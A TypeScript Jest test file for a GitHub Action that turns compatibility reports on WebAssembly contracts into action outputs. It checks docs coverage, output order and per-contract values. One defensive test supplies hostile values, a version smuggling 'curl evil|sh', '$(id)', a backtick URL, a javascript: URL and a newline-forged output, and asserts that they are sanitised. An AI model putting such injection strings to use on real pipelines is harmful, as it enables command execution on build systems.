import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { EXIT } from '../../src/gate/exit-code.ts';
import { OUTPUTS } from '../../src/gate/inputs.ts';
import { outputsOf } from '../../src/github/outputs.ts';
import type { ContractReport, Report } from '../../src/report/model.ts';
import { ROOT } from '../support/dist.ts';

const page = readFileSync(join(ROOT, 'docs/github.md'), 'utf8');
const counts = { breaks: 3, blocking: 2, undecided: 1, warnings: 0, notices: 0, internal: 0, errors: 0 };

function contract(name: string, more: Partial<ContractReport> = {}): ContractReport {
  return {
    name,
    path: `${name}.wasm`,
    kind: 'image',
    verdict: 'refused',
    current: { version: '1.5.0' },
    problems: [],
    findings: [],
    usage: [],
    deploy: [],
    counts,
    baseline: { state: 'found', source: 'release', label: 'v1.4.0', version: '1.4.0' },
    requiredBump: 'minor',
    notes: [],
    ...more,
  };
}
function report(...contracts: ContractReport[]): Report {
  return {
    schema: 'https://berm.dev/compat/report-1.json',
    version: 1,
    generator: { name: 'berm-compat', version: '1.0.0' },
    verdict: 'refused',
    exitCode: 1,
    contracts,
    counts,
    notes: [],
  };
}

describe('docs/github.md', () => {
  test('names every output and every exit code, and links to files that are there', () => {
    for (const name of Object.keys(OUTPUTS)) expect(page).toContain(`\`${name}\``);
    for (const code of Object.values(EXIT)) expect(page).toMatch(new RegExp(`^\\| ${code} \\|`, 'm'));
    for (const [, path] of page.matchAll(/\]\(((?!http|#)[^)]+)\)/g))
      expect([path, existsSync(join(ROOT, 'docs', path ?? ''))]).toEqual([path, true]);
  });
});

describe('outputs', () => {
  test('are the ones that action.yml declares, in its order', () => {
    expect(
      Object.keys(
        outputsOf(report(contract('weather')), {
          report: '/tmp/report.json',
          sarif: '/tmp/report.sarif',
          comment: undefined,
          check: undefined,
        }),
      ),
    ).toEqual(Object.keys(OUTPUTS));
  });

  test('one contract: values alone', () => {
    expect(
      outputsOf(report(contract('weather')), {
        report: '/tmp/r.json',
        sarif: '/tmp/report.sarif',
        comment: undefined,
        check: 'https://x/1',
      }),
    ).toEqual({
      verdict: 'refused',
      breaks: '3',
      blocking: '2',
      undecided: '1',
      'baseline-version': '1.4.0',
      'current-version': '1.5.0',
      'required-bump': 'minor',
      report: '/tmp/r.json',
      sarif: '/tmp/report.sarif',
      'exit-code': '1',
      'comment-url': '',
      'check-url': 'https://x/1',
    });
  });

  test('several: a line for each, the largest step', () => {
    const first = contract('new', {
      baseline: { state: 'none', source: 'release', why: 'no release' },
      current: {},
      requiredBump: 'none',
    });
    const outputs = outputsOf(report(contract('weather'), first, contract('b', { requiredBump: 'major' })), {
      report: 'r',
      sarif: 's',
      comment: undefined,
      check: undefined,
    });
    expect(outputs).toMatchObject({
      'baseline-version': 'weather=1.4.0\nnew=\nb=1.4.0',
      'current-version': 'weather=1.5.0\nnew=\nb=1.5.0',
      'required-bump': 'major',
    });
    expect(
      outputsOf(report(), { report: 'r', sarif: '/tmp/report.sarif', comment: undefined, check: undefined }),
    ).toMatchObject({
      'baseline-version': '',
      'required-bump': 'none',
    });
  });

  test('each is cut to what its meaning allows: no text of a contract gets into a script', () => {
    const evil = '1.1.0";curl evil|sh;"';
    const hostile = contract('a\nverdict=compatible', {
      current: { version: evil },
      baseline: { state: 'found', source: 'release', label: 'x', version: '$(id)' },
    });
    const addresses = {
      report: '/tmp/r.json',
      sarif: '/tmp/r.sarif',
      comment: 'https://x/`id`',
      check: 'javascript:x',
    };
    expect(outputsOf(report(hostile), addresses)).toMatchObject({
      'current-version': '1.1.0',
      'baseline-version': '',
      'comment-url': '',
      'check-url': '',
    });
    expect(outputsOf(report(hostile, contract('b')), addresses)['current-version']).toBe(
      'a_verdict=1.1.0\nb=1.5.0'.replace('a_verdict=', 'a_verdict_compatible='),
    );
  });
});
